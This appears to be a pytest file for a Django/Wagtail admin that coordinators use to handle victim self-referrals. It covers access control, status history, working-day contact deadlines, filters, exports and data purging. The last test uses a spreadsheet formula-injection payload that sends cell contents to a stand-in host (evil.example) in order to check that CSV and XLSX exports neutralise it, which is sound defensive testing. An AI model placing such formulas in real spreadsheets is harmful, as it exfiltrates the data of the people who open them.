"""The coordinators' side: who can see referrals, status changes and history,
overdue first contact across weekends and bank holidays, filters, CSV export,
the dashboard panel and the retention purge."""

import csv
import datetime
import io
from zoneinfo import ZoneInfo

import pytest
import time_machine

from django.contrib.auth.models import Group, User
from django.core.management import call_command
from django.urls import reverse

from wagtail.models import ModelLogEntry

from selfreferral.admin_views import COORDINATORS_GROUP
from selfreferral.factories import AreaFactory, ReferralFactory
from selfreferral.models import Referral, Status
from tests.conftest import english

pytestmark = pytest.mark.django_db
LONDON = ZoneInfo("Europe/London")
LIST_URL = reverse("wagtailsnippets_selfreferral_referral:list")


def edit_url(referral):
    return reverse("wagtailsnippets_selfreferral_referral:edit", args=[referral.pk])


def test_the_coordinators_group_has_exactly_what_it_needs():
    group = Group.objects.get(name=COORDINATORS_GROUP)
    assert sorted(group.permissions.values_list("content_type__app_label", "codename")) == [
        ("selfreferral", "change_referral"),
        ("selfreferral", "view_referral"),
        ("wagtailadmin", "access_admin"),
    ]


def test_coordinators_see_referrals(client, coordinator):
    referral = ReferralFactory(name="Jordan Visible")
    client.force_login(coordinator)
    listing = client.get(LIST_URL)
    assert listing.status_code == 200
    assert referral.reference in listing.text
    inspect = client.get(
        reverse("wagtailsnippets_selfreferral_referral:inspect", args=[referral.pk])
    )
    assert inspect.status_code == 200 and "Jordan Visible" in inspect.text
    assert "Referrals" in client.get("/admin/").text


@pytest.mark.parametrize("who", ["comms", "anonymous"])
def test_nobody_else_can_see_referrals(client, editor, who):
    referral = ReferralFactory(name="Jordan Hidden")
    if who == "comms":
        client.force_login(editor)
    urls = [
        LIST_URL,
        edit_url(referral),
        reverse("wagtailsnippets_selfreferral_referral:inspect", args=[referral.pk]),
        reverse("wagtailsnippets_selfreferral_referral:history", args=[referral.pk]),
        LIST_URL + "?export=csv",
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code in (302, 403), url
        assert "Jordan Hidden" not in response.content.decode()
    if who == "comms":
        dashboard = client.get("/admin/").text
        assert "data-new-count" not in dashboard
        assert "/admin/snippets/selfreferral/referral/" not in dashboard


def test_coordinators_cannot_add_delete_or_change_where_referrals_go(client, coordinator):
    referral = ReferralFactory()
    client.force_login(coordinator)
    assert client.get(reverse("wagtailsnippets_selfreferral_referral:add")).status_code in (
        302,
        403,
    )
    assert client.get(
        reverse("wagtailsnippets_selfreferral_referral:delete", args=[referral.pk])
    ).status_code in (302, 403)
    assert client.get(
        reverse("wagtailsnippets_selfreferral_area:edit", args=[referral.area.pk])
    ).status_code in (302, 403)


def _edit_form(referral, **changes):
    data = {
        "status": referral.status,
        "first_contacted_on": "",
        "coordinator_notes": referral.coordinator_notes,
        "name": referral.name,
        "preferred_contact": referral.preferred_contact,
        "phone": referral.phone,
        "email": referral.email,
        "address": referral.address,
        "safe_to_leave_message": str(referral.safe_to_leave_message),
        "safe_times": referral.safe_times,
    }
    data.update(changes)
    return data


def test_status_changes_are_saved_and_kept_in_the_history(client, coordinator):
    referral = ReferralFactory()
    client.force_login(coordinator)
    response = client.post(
        edit_url(referral), _edit_form(referral, status="contacted", coordinator_notes="Called.")
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    referral.refresh_from_db()
    assert referral.status == Status.CONTACTED
    assert referral.first_contacted_on is not None  # filled in for them
    assert referral.coordinator_notes == "Called."
    client.post(edit_url(referral), _edit_form(referral, status="in_progress"))
    client.post(edit_url(referral), _edit_form(referral, status="closed", outcome="letter"))
    referral.refresh_from_db()
    assert referral.status == Status.CLOSED
    entries = ModelLogEntry.objects.filter(
        object_id=str(referral.pk), action="selfreferral.status_change"
    )
    assert [
        (e.data["from"], e.data["to"], e.user_id) for e in entries.order_by("timestamp", "pk")
    ] == [
        ("New", "Contacted", coordinator.pk),
        ("Contacted", "In progress", coordinator.pk),
        ("In progress", "Closed", coordinator.pk),
    ]
    history = client.get(
        reverse("wagtailsnippets_selfreferral_referral:history", args=[referral.pk])
    )
    assert "Status changed from In progress to Closed" in history.text


def test_status_can_only_follow_the_workflow(client, coordinator):
    referral = ReferralFactory()
    client.force_login(coordinator)
    response = client.post(edit_url(referral), _edit_form(referral, status="closed"))
    assert response.status_code == 200
    assert "can only become" in response.text
    referral.refresh_from_db()
    assert referral.status == Status.NEW


def test_the_referral_answers_cannot_be_rewritten(client, coordinator):
    referral = ReferralFactory(what_happened="Original words", role="harmed")
    client.force_login(coordinator)
    client.post(edit_url(referral), _edit_form(referral, what_happened="Changed", role="caused"))
    referral.refresh_from_db()
    assert referral.what_happened == "Original words" and referral.role == "harmed"


# First contact in working days


def _received(local_datetime):
    with time_machine.travel(local_datetime.replace(tzinfo=LONDON), tick=False):
        return ReferralFactory()


def test_first_contact_skips_the_weekend():
    # Thursday 7 March 2024: due Monday 11 March.
    referral = _received(datetime.datetime(2024, 3, 7, 16, 0))
    assert referral.first_contact_due == datetime.date(2024, 3, 11)


def test_first_contact_skips_a_weekend_and_a_bank_holiday():
    # Friday 24 May 2024; Monday 27 May is the spring bank holiday: due Wednesday 29 May.
    referral = _received(datetime.datetime(2024, 5, 24, 10, 0))
    assert referral.first_contact_due == datetime.date(2024, 5, 29)
    for day, overdue in [(28, False), (29, False), (30, True)]:
        with time_machine.travel(datetime.datetime(2024, 5, day, 12, 0, tzinfo=LONDON)):
            assert referral.is_overdue is overdue
            assert Referral.objects.overdue().exists() is overdue


def test_christmas_and_boxing_day_are_not_working_days():
    # Friday 22 December 2023: 25 and 26 December are bank holidays: due Thursday 28.
    referral = _received(datetime.datetime(2023, 12, 22, 9, 0))
    assert referral.first_contact_due == datetime.date(2023, 12, 28)


def test_the_target_is_configurable(settings):
    settings.SELF_REFERRAL_FIRST_CONTACT_WORKING_DAYS = 5
    referral = _received(datetime.datetime(2024, 3, 7, 16, 0))
    assert referral.first_contact_due == datetime.date(2024, 3, 14)


def test_a_contacted_referral_is_not_overdue():
    referral = _received(datetime.datetime(2024, 5, 24, 10, 0))
    referral.status = Status.CONTACTED
    referral.save()
    with time_machine.travel(datetime.datetime(2024, 6, 10, 12, 0, tzinfo=LONDON)):
        assert not referral.is_overdue


def test_overdue_referrals_are_highlighted_filtered_and_counted(client, coordinator):
    late = _received(datetime.datetime(2024, 5, 24, 10, 0))  # due Wed 29 May
    due_today = _received(datetime.datetime(2024, 5, 28, 10, 0))  # due Thu 30 May
    due_tomorrow = _received(datetime.datetime(2024, 5, 29, 10, 0))  # due Fri 31 May
    client.force_login(coordinator)
    with time_machine.travel(datetime.datetime(2024, 5, 30, 12, 0, tzinfo=LONDON)):
        listing = client.get(LIST_URL).text
        overdue_only = client.get(LIST_URL, {"overdue": "true"}).text
        dashboard = client.get("/admin/").text
    # Each is marked in words, not only in colour: overdue, due today, due tomorrow.
    for html in (listing, dashboard):
        assert html.count('data-due="overdue">Overdue<') == 1
        assert html.count('data-due="today">Due today<') == 1
        assert html.count('data-due="tomorrow">Due tomorrow<') == 1
    assert late.reference in overdue_only
    assert due_today.reference not in overdue_only and due_tomorrow.reference not in overdue_only
    assert "3 new referrals" in dashboard
    assert "1 overdue for first contact" in dashboard
    # The dashboard lists them soonest due first.
    assert (
        dashboard.index(late.reference)
        < dashboard.index(due_today.reference)
        < dashboard.index(due_tomorrow.reference)
    )


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"status": "contacted"}, {"contacted-adult"}),
        ({"age_group": "under-18"}, {"young"}),
        ({"role": "caused"}, {"caused"}),
        ({"channel": "paper"}, {"paper"}),
    ],
)
def test_filters(client, coordinator, params, expected):
    area = AreaFactory()
    made = {
        "contacted-adult": ReferralFactory(area=area, status="contacted"),
        "young": ReferralFactory(area=area, age_group="under-18"),
        "caused": ReferralFactory(area=area, role="caused"),
        "paper": ReferralFactory(area=area, channel="paper"),
    }
    client.force_login(coordinator)
    listing = client.get(LIST_URL, params).text
    assert {key for key, referral in made.items() if referral.reference in listing} == expected


def test_filter_by_area_and_search_by_reference(client, coordinator):
    north, south = AreaFactory(), AreaFactory()
    in_north, in_south = ReferralFactory(area=north), ReferralFactory(area=south)
    client.force_login(coordinator)
    listing = client.get(LIST_URL, {"area": north.pk}).text
    assert in_north.reference in listing and in_south.reference not in listing
    found = client.get(LIST_URL, {"q": in_south.reference}).text
    assert in_south.reference in found and in_north.reference not in found


def test_listing_does_not_run_a_query_per_referral(
    client, coordinator, django_assert_max_num_queries
):
    for _ in range(3):
        ReferralFactory()
    client.force_login(coordinator)
    client.get(LIST_URL)
    with django_assert_max_num_queries(30) as few:
        client.get(LIST_URL)
    for _ in range(20):
        ReferralFactory()
    with django_assert_max_num_queries(len(few.captured_queries)):
        client.get(LIST_URL)


def export(client):
    response = client.get(LIST_URL, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode() if response.streaming else response.text
    return list(csv.DictReader(io.StringIO(body)))


def test_csv_export_for_coordinators(client, coordinator):
    referral = ReferralFactory(name="Casey Export", phone="020 7946 0000")
    client.force_login(coordinator)
    rows = export(client)
    assert {"Reference", "Area", "Overdue"} <= set(rows[0])
    row = next(row for row in rows if row["Reference"] == referral.reference)
    assert row["Name"] == "Casey Export"


def test_the_csv_has_readable_labels_and_uk_times(client, coordinator):
    # 09:30 UTC on 1 July is 10:30 in London (summer time).
    with time_machine.travel(datetime.datetime(2026, 7, 1, 9, 30, tzinfo=datetime.UTC)):
        referral = ReferralFactory(
            age_group="18-or-over", role="harmed", safe_to_leave_message=False, channel="web"
        )
    client.force_login(coordinator)
    row = next(row for row in export(client) if row["Reference"] == referral.reference)
    assert row["Received"] == "01/07/2026 10:30"
    assert row["Age"] == "18 or over"
    assert row["Who"] == "I was harmed by a crime or by anti-social behaviour"
    assert row["How it arrived"] == "Website"
    assert row["Safe to leave a message"] == "No"
    assert row["Status"] == "New"
    assert row["First contact due"] == "03/07/2026"
    assert not {"18-or-over", "False", "True", "None", "harmed", "web"} & set(row.values())


def test_the_inspect_page_reads_in_words(client, coordinator):
    referral = ReferralFactory(
        safe_to_leave_message=False, email="", confirmation_email=False, support_needs=""
    )
    client.force_login(coordinator)
    html = client.get(
        reverse("wagtailsnippets_selfreferral_referral:inspect", args=[referral.pk])
    ).text
    main = html[html.index("<main") :]
    assert "First contact due" in main
    assert referral.first_contact_due.strftime("%-d %B %Y") in main
    assert "No: do not leave a message" in main
    assert "Not given" in main and "Not yet" in main
    for raw in (">False<", ">True<", ">None<", "Notification attempts", "Notification error"):
        assert raw not in main


def test_the_edit_page_starts_with_the_due_date_and_whether_to_leave_a_message(client, coordinator):
    referral = ReferralFactory(safe_to_leave_message=False, safe_times="After 6pm")
    client.force_login(coordinator)
    html = client.get(edit_url(referral)).text
    summary = html[html.index("rj-referral-summary") :]
    assert summary.index("Do not leave a message") < summary.index('name="status"')
    assert "Safe times to contact: After 6pm" in summary
    assert referral.first_contact_due.strftime("%A %-d %B %Y") in summary
    # The answer is a choice between two sentences, not an unticked box.
    assert 'type="radio" name="safe_to_leave_message" value="False"' in html
    assert "No, do not leave a message" in html
    client.post(edit_url(referral), _edit_form(referral, safe_to_leave_message="True"))
    referral.refresh_from_db()
    assert referral.safe_to_leave_message
    assert "Do not leave a message" not in client.get(edit_url(referral)).text


# Retention


def _finished(days_ago, status="closed"):
    referral = ReferralFactory(
        name="Pat Private",
        email="pat@example.com",
        what_happened="Private words",
        coordinator_notes="Notes",
        source_code="gp-leaflet",
    )
    moment = datetime.datetime.now(tz=LONDON) - datetime.timedelta(days=days_ago)
    Referral.objects.filter(pk=referral.pk).update(status=status, status_changed_at=moment)
    return referral


def test_purge_erases_personal_details_of_old_finished_referrals(settings):
    settings.SELF_REFERRAL_RETENTION_DAYS = 365
    old_closed = _finished(400)
    old_withdrawn = _finished(400, status="withdrawn")
    recent = _finished(100)
    still_open = _finished(400, status="in_progress")
    out = io.StringIO()
    call_command("purge_referrals", stdout=out)
    assert "Erased personal details from 2 referrals" in out.getvalue()
    for referral in (old_closed, old_withdrawn):
        referral.refresh_from_db()
        assert referral.name == referral.email == referral.what_happened == ""
        assert referral.coordinator_notes == referral.phone == referral.source_code == ""
        assert referral.personal_data_erased_at is not None
        # The anonymous figures stay.
        assert referral.reference and referral.area and referral.role == "harmed"
        assert referral.created_at and referral.channel == "web"
        assert ModelLogEntry.objects.filter(
            object_id=str(referral.pk), action="selfreferral.purge"
        ).exists()
    for referral in (recent, still_open):
        referral.refresh_from_db()
        assert referral.name == "Pat Private"
    # Running again changes nothing.
    out = io.StringIO()
    call_command("purge_referrals", stdout=out)
    assert "from 0 referrals" in out.getvalue()


def test_purge_is_scheduled_daily_on_the_task_queue(settings):
    from django_tasks_db.models import DBTaskResult

    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    old = _finished(400)
    call_command("purge_referrals", schedule=True, stdout=io.StringIO())
    out = io.StringIO()
    call_command("purge_referrals", schedule=True, stdout=out)
    assert "already queued" in out.getvalue()
    call_command("db_worker", batch=True, interval=0, startup_delay=False, verbosity=0)
    old.refresh_from_db()
    assert old.name == ""
    # It queued its own next run, a day later.
    next_run = DBTaskResult.objects.get(status="READY")
    assert next_run.run_after > datetime.datetime.now(tz=LONDON) + datetime.timedelta(hours=23)


def test_demo_content_prints_the_coordinator_login(db):
    out = io.StringIO()
    call_command("load_demo_content", skip_languages=True, stdout=out)
    assert "username: coordinator" in out.getvalue()
    coordinator = User.objects.get(username="coordinator")
    assert coordinator.groups.filter(name=COORDINATORS_GROUP).exists()
    assert coordinator.has_perm("selfreferral.view_referral")
    # The demo's areas and page, made once however often it runs.
    call_command("load_demo_content", skip_languages=True, stdout=io.StringIO())
    from selfreferral.models import Area, SelfReferralPage

    assert sorted(Area.objects.values_list("name", flat=True)) == [
        "Fenmoor North",
        "Fenmoor South",
        "Marshby",
        "Saltcombe",
    ]
    assert english(SelfReferralPage).get().url == "/self-referral/"


def test_changing_an_area_refreshes_cached_pages():
    from home.cache import current_generation
    from home.factories import AreaFactory as PublicAreaFactory

    public_area = PublicAreaFactory()
    before = current_generation()
    area = AreaFactory(public_area=public_area)
    assert current_generation() == before + 1
    area.delete()
    assert current_generation() == before + 2


FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_exported_referrals_never_carry_a_working_formula(client, coordinator, export_format):
    import csv

    from openpyxl import load_workbook

    referral = ReferralFactory(name=FORMULA_NAME, safe_times="+44 then -1", address="@SUM(1)")
    client.force_login(coordinator)
    response = client.get(LIST_URL, {"export": export_format})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        rows = list(csv.reader(io.StringIO(body.decode())))
    else:
        sheet = load_workbook(io.BytesIO(body)).active
        rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    row = next(row for row in rows if referral.reference in row)
    if export_format == "csv":
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
        assert "'" + FORMULA_NAME in row and "'+44 then -1" in row and "'@SUM(1)" in row
    else:
        # A workbook says what each cell is: these are text, shown as typed.
        assert FORMULA_NAME in row
